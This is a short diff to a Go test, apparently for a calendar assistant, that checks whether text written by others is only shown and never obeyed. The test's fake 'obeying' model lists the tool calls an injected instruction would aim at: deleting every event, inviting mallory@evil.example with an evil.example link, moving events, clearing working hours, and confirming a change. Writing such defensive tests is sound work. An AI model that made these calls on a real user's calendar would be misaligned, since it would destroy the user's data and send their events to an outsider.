@@ -108,7 +108,8 @@ func TestWhatOthersWroteIsOnlyShown(t *testing.T) {
 			model := &obeying{Model: rules, obeys: obeys, wanted: []llm.Call{
 				{Name: "calendar_deleteEvents", Arguments: `{"selection":{}}`},
 				{Name: "calendar_updateEvents",
-					Arguments: `{"selection":{},"set":{"invite":["mallory@evil.example"],"description":"See https://evil.example/x"}}`},
+					Arguments: `{"selection":{},"set":{"invite":["mallory@evil.example"],` +
+						`"description":"See https://evil.example/x"}}`},
 				{Name: "calendar_moveEvents", Arguments: `{"selection":{},"to":{"byDays":7}}`},
 				{Name: "preference_updatePreferences", Arguments: `{"key":"working_hours","value":"{}"}`},
 				{Name: "system_confirmProposal", Arguments: `{"id":"ch_1","digest":"sha256:1"}`},
